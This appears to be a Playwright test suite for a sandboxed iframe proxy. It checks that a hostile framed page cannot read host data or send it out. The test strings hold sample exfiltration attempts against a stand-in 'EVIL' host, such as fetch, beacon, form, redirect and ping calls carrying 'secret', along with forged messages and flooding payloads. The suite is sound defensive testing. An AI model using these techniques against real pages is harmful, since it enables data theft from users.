import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { build } from 'esbuild'
import type { Browser, Page } from 'playwright-core'
import { serveViewProxy, type ViewProxy } from '../../src/view/frame/serve-proxy.js'
import { sharedBrowser } from '../support/browser.js'
import { root } from '../support/cli.js'

/** What a hostile page reached from another origin. */
const reached: string[] = []
let browser: Browser
let evil: Server
let host: Server
let proxy: ViewProxy
let evilUrl: string
let hostUrl: string

const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
const serving = (answer: (url: string) => string) =>
  new Promise<Server>((resolve) => {
    const server = createServer((request, response) => {
      response.setHeader('access-control-allow-origin', '*')
      response.setHeader('content-type', 'text/html')
      response.end(answer(request.url ?? ''))
    })
    server.listen(0, '127.0.0.1', () => resolve(server))
  })

beforeAll(async () => {
  const { outputFiles } = await build({
    entryPoints: [`${root}/src/host-frame.ts`],
    ...{ bundle: true, format: 'iife', globalName: 'frame', write: false },
  })
  const script = (outputFiles[0]?.text ?? '').replace(/<\/script/g, '<\\/script')
  evil = await serving((url) => {
    reached.push(url)
    return 'reached'
  })
  host = await serving(
    () =>
      `<!doctype html><title>Host</title><p id="secret">secret</p><div id="container"></div><script>${script}</script>`,
  )
  evilUrl = urlOf(evil)
  hostUrl = urlOf(host)
  proxy = await serveViewProxy({ hostOrigins: [hostUrl] })
  browser = await sharedBrowser()
})
afterAll(async () => {
  await proxy.close()
  for (const server of [evil, host]) server.close()
})
beforeEach(() => {
  reached.length = 0
})

/** Shows a page whose script has `attempt` return a text, or throw; resolves with its report, and what the host received. */
async function show(attempt: string, after: (page: Page) => Promise<void> = async () => {}) {
  const page = await browser.newPage()
  const popups: string[] = []
  page.on('popup', (popup) => void popups.push(popup.url()))
  await page.goto(hostUrl)
  const html = `<!doctype html><body><script>
    const say = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*')
    const attempt = async () => { ${attempt} }
    addEventListener('message', async ({ data }) => {
      if (data.id !== 1) return
      say({ method: 'ui/notifications/initialized' })
      const told = await attempt().then((text) => 'done: ' + text, (error) => 'refused: ' + error)
      say({ method: 'notifications/message', params: { level: 'info', data: told } })
    })
    say({ id: 1, method: 'ui/initialize', params: { protocolVersion: '2026-01-26', appInfo: { name: 'x', version: '1' }, appCapabilities: {} } })
  </script>`
  const told = await page.evaluate(
    ({ html, proxy }) =>
      new Promise<{ told: string; states: string[]; calls: string[] }>((resolve) => {
        const states: string[] = []
        const calls: string[] = []
        // biome-ignore lint/suspicious/noExplicitAny: the bundle's global
        const { openFrame } = (globalThis as any).frame
        openFrame({
          container: document.getElementById('container'),
          ...{ proxy, html },
          handlers: {
            tools: () => [{ name: 'move_hive', inputSchema: {}, _meta: { ui: { visibility: ['model'] } } }],
            callTool: async (name: string) => calls.push(name),
            openLink: async (url: string) => calls.push(url) > 0,
            log: ({ data }: { data: string }) => resolve({ told: data, states, calls }),
            onState: (state: string, reason?: string) => {
              states.push(state)
              if (state === 'stopped') resolve({ told: reason ?? '', states, calls })
            },
          },
        })
        setTimeout(() => resolve({ told: 'nothing', states, calls }), 5000)
      }),
    { html, proxy: proxy.url },
  )
  await after(page)
  const url = page.url()
  const frames = await page.locator('iframe').count()
  await page.close()
  return { ...told, url, frames, popups }
}

/** What a page may try to reach, how, and what prevents it. */
const secrets: [what: string, attempt: string, said: RegExp][] = [
  ['the document of the host', 'return top.document.body.innerHTML', /SecurityError/],
  ['the document of the outer frame', 'return parent.document.body.innerHTML', /SecurityError/],
  ['cookies', 'return document.cookie', /SecurityError/],
  ['storage', 'return localStorage.length', /SecurityError/],
  [
    'a database',
    `return new Promise((done, fail) => { const open = indexedDB.open('x'); open.onsuccess = done; open.onerror = fail })`,
    /SecurityError/,
  ],
  ['the window of the host', `top.location = 'EVIL/top'`, /SecurityError/],
  ['the window of the outer frame', `parent.location = 'EVIL/parent'`, /SecurityError/],
  ['code from a text', `return eval('1 + 1')`, /EvalError/],
  ['a fetch', `return fetch('EVIL/fetch')`, /Failed to fetch/],
  [
    'a request',
    `return new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr'); x.onload = done; x.onerror = () => fail('blocked'); x.send() })`,
    /blocked/,
  ],
  [
    'a socket',
    `return new Promise((done, fail) => { const x = new WebSocket('ws' + 'EVIL/ws'.slice(4)); x.onopen = done; x.onerror = () => fail('blocked') })`,
    /blocked/,
  ],
  [
    'a picture',
    `return new Promise((done, fail) => { const x = new Image(); x.onload = done; x.onerror = () => fail('blocked'); x.src = 'EVIL/img' })`,
    /blocked/,
  ],
  [
    'a script',
    `return new Promise((done, fail) => { const x = document.createElement('script'); x.onload = done; x.onerror = () => fail('blocked'); x.src = 'EVIL/script'; document.body.append(x) })`,
    /blocked/,
  ],
  [
    'a worker',
    `return new Promise((done, fail) => { const x = new Worker('data:text/javascript,postMessage(1)'); x.onmessage = done; x.onerror = () => fail('blocked') })`,
    /blocked/,
  ],
]

describe('a hostile page in its frames', () => {
  test('reads nothing outside itself', async () => {
    const attempts = secrets.map(
      ([what, attempt]) =>
        `try { told['${what}'] = 'got ' + (await (async () => { ${attempt} })()) } catch (error) { told['${what}'] = String(error) }`,
    )
    const { told, url } = await show(
      `const told = {}; ${attempts.join('; ')}; return JSON.stringify(told)`.replaceAll('EVIL', evilUrl),
    )
    const found = JSON.parse(told.replace('done: ', ''))
    for (const [what, , said] of secrets)
      expect([what, found[what]]).toStrictEqual([what, expect.stringMatching(said)])
    expect([url, reached]).toStrictEqual([`${hostUrl}/`, []])
  })

  test.each([
    ['a popup', `return String(window.open('EVIL/popup'))`],
    ['a beacon', `return navigator.sendBeacon('EVIL/beacon', 'secret')`],
    [
      'a form',
      `const form = document.createElement('form'); form.action = 'EVIL/form'; document.body.append(form); form.submit(); return 'sent'`,
    ],
    ['another page in its place', `setTimeout(() => { location.href = 'EVIL/self?secret' }); return 'left'`],
    [
      'a refresh',
      `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'; return 'left'`,
    ],
    [
      'a nested frame',
      `const frame = document.createElement('iframe'); frame.src = 'EVIL/frame'; document.body.append(frame); return 'framed'`,
    ],
    [
      'a hint to load',
      `document.head.innerHTML = '<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">'; return 'hinted'`,
    ],
    [
      'a ping of a link',
      `const a = document.createElement('a'); a.href = '#'; a.ping = 'EVIL/ping'; document.body.append(a); a.click(); return 'clicked'`,
    ],
    [
      'a download',
      `const a = document.createElement('a'); a.href = 'EVIL/file'; a.download = 'x'; document.body.append(a); a.click(); return 'clicked'`,
    ],
    ['a dialog', `return String(confirm('Password?'))`],
  ])('cannot send data out by %s', async (_, attempt) => {
    const { url, popups } = await show(attempt.replaceAll('EVIL', evilUrl), (page) => page.waitForTimeout(300))
    expect([url, popups, reached]).toStrictEqual([`${hostUrl}/`, [], []])
  })

  test('calls only page tools, and opens no script as a link', async () => {
    const asking = (method: string, params: object) =>
      `return new Promise((done) => { addEventListener('message', ({ data }) => data.id === 2 && done(JSON.stringify(data.error ?? data.result))); say({ id: 2, method: '${method}', params: ${JSON.stringify(params)} }) })`
    const call = await show(asking('tools/call', { name: 'move_hive' }))
    expect(call.told).toMatch(/not for pages/)
    const link = await show(asking('ui/open-link', { url: 'javascript:alert(document.domain)' }))
    expect(link.told).toMatch(/only http and https/)
    expect([call.calls, link.calls]).toStrictEqual([[], []])
  })

  test('cannot send messages past its frames or receive those for others', async () => {
    // To the host itself, under the name of the proxy, and to the proxy under the name of the host.
    const forged = await show(`
      top.postMessage({ jsonrpc: '2.0', id: 2, method: 'ui/open-link', params: { url: 'https://a.example/' } }, '*')
      say({ method: 'ui/notifications/sandbox-proxy-ready' })
      say({ method: 'ui/notifications/sandbox-resource-ready', params: { html: '<p>another page' } })
      await new Promise((done) => setTimeout(done, 200))
      return frames.length`)
    expect(forged).toMatchObject({ told: 'done: 0', calls: [], states: ['ready'], frames: 1 })
  })

  test.each([
    [
      'floods its host',
      `for (let at = 0; at < 5000; at++) say({ method: 'ui/notifications/size-changed', params: { width: 1, height: at } }); await new Promise(() => {})`,
    ],
    [
      'sends fifty megabytes',
      `say({ method: 'x', params: { text: 'x'.repeat(50e6) } }); await new Promise(() => {})`,
    ],
  ])('that %s is stopped and removed', async (_, attempt) => {
    const { states, frames } = await show(attempt)
    expect([states.at(-1), frames]).toStrictEqual(['stopped', 0])
  })

  test('grows only to the size that its host allows', async () => {
    let height = 0
    await show(
      `say({ method: 'ui/notifications/size-changed', params: { width: 10, height: 1e6 } }); return 'grown'`,
      async (page) => {
        height = (await page.locator('iframe').boundingBox())?.height ?? 0
      },
    )
    expect(height).toBe(1200)
  })
})

describe('the outer frame', () => {
  test('cannot be embedded by pages of other origins', async () => {
    const page = await browser.newPage()
    await page.goto(evilUrl)
    const blocked = page.waitForEvent('console', { predicate: (message) => /frame-ancestors/.test(message.text()) })
    await page.evaluate((url) => {
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
    }, proxy.url)
    await blocked
    await page.close()
  })

  test('is refused if it would have the origin of the host', async () => {
    const page = await browser.newPage()
    await page.goto(hostUrl)
    const refused = page.evaluate((url) => {
      // biome-ignore lint/suspicious/noExplicitAny: the bundle's global
      ;(globalThis as any).frame.openFrame({
        container: document.body,
        proxy: url,
        html: '',
        handlers: { tools: () => [] },
      })
    }, hostUrl)
    await expect(refused).rejects.toThrow(/origin of its own/)
    await page.close()
  })

  test.each([
    ['another name of this machine', { host: 'evil.example' }, '/', 403],
    ['another path', {}, '/x', 404],
  ])('is not served with %s', async (_, headers, path, status) => {
    const { port } = new URL(proxy.url)
    const { request } = await import('node:http')
    const found = await new Promise((resolve) =>
      request({ port, path, headers }, (response) => resolve(response.resume().statusCode)).end(),
    )
    expect(found).toBe(status)
  })
})
